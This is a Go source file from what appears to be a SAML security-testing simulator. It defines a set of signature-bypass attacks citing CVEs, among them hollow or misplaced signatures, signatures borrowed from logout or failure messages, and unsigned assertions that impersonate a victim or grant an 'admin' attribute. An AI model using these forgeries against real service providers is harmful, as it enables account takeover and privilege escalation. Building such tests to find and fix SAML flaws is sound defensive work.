package forge

import (
	"bytes"
	"encoding/base64"
	"net/url"

	"github.com/beevik/etree"

	"rollcall.example/simulator"
	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Attacks on a product that finds a signature somewhere and takes it for one that
// counts.
func init() {
	register("sig",
		Attack{
			Row: "SIG-15", Name: "signature-hollow", Modes: Alone, Summary: "has an empty element for a signature",
			Sources: []string{"CVE-2025-40934", "CVE-2026-18568"},
			document: then(onVictim, onSignatures(func(_ Donor, s *etree.Element) error {
				s.Child = nil
				return nil
			})),
		},
		Attack{
			Row: "SIG-16", Name: "signature-foreign-namespace", Modes: Alone,
			Summary: "has its signature in a namespace that means nothing",
			document: then(onVictim, onSignatures(func(_ Donor, s *etree.Element) error {
				other := etree.NewElement("Signature")
				other.CreateAttr("xmlns", "urn:rollcall:not-a-signature")
				for _, child := range s.ChildElements() {
					child.CreateAttr("xmlns:ds", nsSignature)
					other.AddChild(child)
				}
				before(s, other)
				s.Parent().RemoveChild(s)
				return nil
			})),
		},
		Attack{
			Row: "SIG-17", Name: "signature-moved-out", Modes: OnAssertion,
			Only:    "the place of the response's signature is taken",
			Summary: "carries the signature of one assertion where that of the response would be, and another assertion",
			Sources: []string{"CVE-2024-8698"},
			document: func(d Donor, draft *idp.Draft) error {
				signature, err := find(draft.Assertion, "Signature")
				if err != nil {
					return err
				}
				draft.Response.InsertChildAt(dsig.AfterIssuer(draft.Response), signature)
				return beside(d, draft, before)
			},
		},
		Attack{
			Row: "SIG-18", Name: "signed-note-inside", Rule: "signed-is-read",
			Summary: "is signed, but only a note in it is",
			Sources: []string{"Somorovsky et al. 2012"},
			forged:  true,
			sign: func(d Donor, draft *idp.Draft) error {
				note, err := aNote(draft)
				if err != nil {
					return err
				}
				s := enveloped(d, draft, note)
				_, err = s.Place(note, 0)
				return err
			},
		},
		Attack{
			Row: "SIG-18", Name: "signed-note-outside", Rule: "signed-is-read",
			Summary: "has a signature in its place, but only over a note",
			Sources: []string{"Somorovsky et al. 2012"},
			forged:  true,
			sign: func(d Donor, draft *idp.Draft) error {
				note, err := aNote(draft)
				if err != nil {
					return err
				}
				s := enveloped(d, draft, note)
				_, err = s.Place(draft.Response, dsig.AfterIssuer(draft.Response))
				return err
			},
		},
		Attack{
			Row: "SIG-19", Name: "signature-last", Modes: Alone, Expect: Warn,
			Summary: "has its signature at the end, where the schema has no place for it",
			sign: onAll(func(d Donor, draft *idp.Draft, el *etree.Element) error {
				s := enveloped(d, draft, el)
				_, err := s.Place(el, len(el.Child))
				return err
			}),
		},
		Attack{
			Row: "SIG-20", Name: "second-signature-bogus", Rule: "one-signature", Modes: Alone,
			Summary: "has a second signature that does not hold",
			Sources: []string{"CVE-2026-18568"},
			sign:    besideBogus(0),
		},
		Attack{
			Row: "SIG-21", Name: "first-signature-bogus", Rule: "one-signature", Modes: Alone,
			Summary: "has a signature that does not hold before the one that does",
			Sources: []string{"CVE-2026-18568"},
			sign:    besideBogus(1),
		},
		Attack{
			Row: "SIG-22", Name: "signature-of-logout", Rule: "signed-is-this", Summary: "bears the signature of a logout that it carries inside",
			Sources: []string{"CVE-2024-6800"},
			forged:  true,
			sign:    signsInDetail(aLogout),
		},
		Attack{
			Row: "SIG-22", Name: "signature-of-failure", Rule: "signed-is-this", Summary: "bears the signature of a failed sign-in that it carries inside",
			Sources: []string{"CVE-2024-6800"},
			forged:  true,
			sign:    signsInDetail(aFailure),
		},
		Attack{
			Row: "SIG-23", Name: "signature-in-form", Rule: "signature-beside", Summary: "is signed as the Redirect binding does it, in the fields of the form",
			Sources: []string{"CVE-2025-27773"},
			claims:  unsignedVictim,
			post: func(d Donor, posting *simulator.Posting) error {
				fields, err := querySigned(d, posting.SAMLResponse, posting.RelayState)
				if err == nil {
					posting.Fields = url.Values{"SigAlg": fields["SigAlg"], "Signature": fields["Signature"]}
				}
				return err
			},
		},
		Attack{
			Row: "SIG-23", Name: "signature-in-query", Rule: "signature-beside", Summary: "is posted to an address whose query holds an honest one, signed as the Redirect binding does it",
			Sources: []string{"CVE-2025-27773"},
			claims:  unsignedVictim,
			post: func(d Donor, posting *simulator.Posting) error {
				honest := bytes.ReplaceAll(decoded(posting.SAMLResponse), []byte(d.Victim), []byte("nobody@rollcall.test"))
				fields, err := querySigned(d, base64.StdEncoding.EncodeToString(honest), posting.RelayState)
				if err == nil {
					posting.ACS = withQuery(posting.ACS, fields)
				}
				return err
			},
		},
		Attack{
			Row: "SIG-24", Name: "attributes-added-after", Rule: "attributes-signed", Modes: OnAssertion, Expect: Harmless, ByHand: true, wraps: true,
			Summary:  "adds an unsigned assertion with attributes behind the signed one",
			Sources:  []string{"CVE-2017-18122"},
			document: func(_ Donor, draft *idp.Draft) error { return addPrivileges(draft, behind) },
		},
		Attack{
			Row: "SIG-24", Name: "attributes-added-before", Rule: "attributes-signed", Modes: OnAssertion, Expect: Harmless, ByHand: true, wraps: true,
			Summary:  "adds an unsigned assertion with attributes before the signed one",
			Sources:  []string{"CVE-2017-18122"},
			document: func(_ Donor, draft *idp.Draft) error { return addPrivileges(draft, before) },
		},
	)
}

func unsignedVictim(d *Donor) error {
	d.Impersonate()
	d.Claims.Sign = idp.SignNothing
	return nil
}

// evil is a copy of the assertion that is not signed, names the victim and has an ID of
// its own.
func evil(d Donor, assertion *etree.Element) (*etree.Element, error) {
	other := unsigned(assertion)
	newID(other)
	return other, impersonate(d, other)
}

// beside puts an unsigned assertion about the victim next to the donor's.
func beside(d Donor, draft *idp.Draft, where func(sibling, el *etree.Element)) error {
	other, err := evil(d, draft.Assertion)
	if err == nil {
		where(draft.Assertion, other)
	}
	return err
}

// aNote puts an element that means nothing into the response's extensions.
func aNote(draft *idp.Draft) (*etree.Element, error) {
	place, err := extensions(draft.Response)
	if err != nil {
		return nil, err
	}
	note := place.CreateElement("rc:Note")
	note.CreateAttr("xmlns:rc", "urn:rollcall:note")
	note.CreateAttr("ID", "id-of-the-note")
	note.SetText("a note that means nothing")
	return note, nil
}

// onAll is onSigned for what needs the draft too.
func onAll(do func(Donor, *idp.Draft, *etree.Element) error) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error {
		return onSigned(func(d Donor, el *etree.Element) error { return do(d, draft, el) })(d, draft)
	}
}

// besideBogus signs an element in which there is a signature already that does not hold:
// the genuine one, which covers it, stands so many places behind it.
func besideBogus(places int) func(Donor, *idp.Draft) error {
	return onAll(func(d Donor, draft *idp.Draft, el *etree.Element) error {
		bogus := enveloped(d, draft, el)
		bogus.Key = dsig.Fixed(filled(256))
		if _, err := bogus.Place(el, dsig.AfterIssuer(el)); err != nil {
			return err
		}
		s := enveloped(d, draft, el)
		_, err := s.Place(el, dsig.AfterIssuer(el)+places)
		return err
	})
}

// signsInDetail signs a genuine message of another kind, which travels in StatusDetail,
// and puts that signature where the response's own would be.
func signsInDetail(message func(Donor, *idp.Draft) *etree.Element) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error {
		status, err := find(draft.Response, "Status")
		if err != nil {
			return err
		}
		carried := message(d, draft)
		status.CreateElement("saml2p:StatusDetail").AddChild(carried)
		s := enveloped(d, draft, carried)
		_, err = s.Place(draft.Response, dsig.AfterIssuer(draft.Response))
		return err
	}
}

// aLogout is a LogoutResponse, as the identity provider sends to who logs out.
func aLogout(_ Donor, draft *idp.Draft) *etree.Element {
	return another(draft, "LogoutResponse", "urn:oasis:names:tc:SAML:2.0:status:Success")
}

// aFailure is a Response that says that the sign-in failed.
func aFailure(_ Donor, draft *idp.Draft) *etree.Element {
	return another(draft, "Response", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed")
}

func another(draft *idp.Draft, tag, status string) *etree.Element {
	message := etree.NewElement("saml2p:" + tag)
	message.CreateAttr("xmlns:saml2p", nsProtocol)
	for _, name := range []string{"Destination", "InResponseTo", "IssueInstant", "Version"} {
		if value := draft.Response.SelectAttrValue(name, ""); value != "" {
			message.CreateAttr(name, value)
		}
	}
	message.CreateAttr("ID", "id-of-another-"+draft.Response.SelectAttrValue("ID", ""))
	message.AddChild(draft.Response.SelectElement("Issuer").Copy())
	message.CreateElement("saml2p:Status").CreateElement("saml2p:StatusCode").CreateAttr("Value", status)
	return message
}

// querySigned signs a message as the Redirect binding does (SAML 2.0 bindings
// §3.4.4.1).
func querySigned(d Donor, message, relayState string) (url.Values, error) {
	signed := "SAMLResponse=" + url.QueryEscape(message)
	fields := url.Values{"SAMLResponse": {message}, "SigAlg": {dsig.RSASHA256}}
	if relayState != "" {
		signed += "&RelayState=" + url.QueryEscape(relayState)
		fields.Set("RelayState", relayState)
	}
	signed += "&SigAlg=" + url.QueryEscape(dsig.RSASHA256)
	value, err := dsig.RSA{Key: d.key()}.Sign(dsig.RSASHA256, []byte(signed))
	fields.Set("Signature", base64.StdEncoding.EncodeToString(value))
	return fields, err
}

func withQuery(address string, fields url.Values) string {
	at, err := url.Parse(address)
	if err != nil {
		return address
	}
	query := at.Query()
	for name, values := range fields {
		query[name] = values
	}
	at.RawQuery = query.Encode()
	return at.String()
}

// decoded is the document of a form value that we made.
func decoded(message string) []byte {
	xml, err := base64.StdEncoding.DecodeString(message)
	if err != nil {
		panic("forge: what was encoded here does not decode: " + err.Error())
	}
	return xml
}

// addPrivileges puts an unsigned assertion next to the donor's that says nothing but
// that whoever it is may administer.
func addPrivileges(draft *idp.Draft, where func(sibling, el *etree.Element)) error {
	other := unsigned(draft.Assertion)
	newID(other)
	for _, tag := range []string{"Subject", "AuthnStatement"} {
		if err := drop(other, tag); err != nil {
			return err
		}
	}
	if statement := other.SelectElement("AttributeStatement"); statement != nil {
		other.RemoveChild(statement)
	}
	statement := other.CreateElement("saml2:AttributeStatement")
	attribute := statement.CreateElement("saml2:Attribute")
	attribute.CreateAttr("Name", "admin")
	attribute.CreateElement("saml2:AttributeValue").SetText("true")
	where(draft.Assertion, other)
	return nil
}
